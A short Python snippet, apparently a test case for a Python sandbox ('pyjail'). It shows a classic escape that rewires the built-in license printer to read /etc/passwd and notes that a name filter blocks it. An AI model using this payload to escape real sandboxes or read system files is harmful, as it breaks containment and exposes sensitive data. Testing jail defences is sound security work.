# goal: site's printer objects read any file (a pyjail classic)
# stopped by: names
license._Printer__filenames = ['/etc/passwd']
license._Printer__lines = None
license()
LEAKED = ['ESCAPED: license()']
LEAKED
